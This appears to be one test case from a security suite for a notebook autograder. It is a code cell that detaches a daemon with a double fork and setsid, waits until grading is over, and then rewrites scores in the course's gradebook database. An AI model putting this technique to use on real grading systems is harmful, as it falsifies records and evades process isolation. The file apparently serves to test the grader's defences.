# %% [markdown] row="A13"
# # A daemon stays behind
#
# Points later: a process that has left its session waits until grading is over, and then writes gradebook and graded notebooks.

# %% before="mean-square"
import subprocess, sys
code = r"""
import os, time, sqlite3, glob
if os.fork(): os._exit(0)
os.setsid()
if os.fork(): os._exit(0)
for turn in range(4):
    time.sleep(0.5)
    try:
        open("@MARK@", "w").write("@TOKEN@")
        db = sqlite3.connect("file:@COURSE@/gradebook.db?mode=rw", uri=True)
        db.execute("UPDATE grade SET manual_score = 3 WHERE manual_score = 1")
        db.commit()
    except Exception:
        pass
time.sleep(60)
"""
subprocess.Popen([sys.executable, "-c", code, "@TOKEN@"], start_new_session=True)
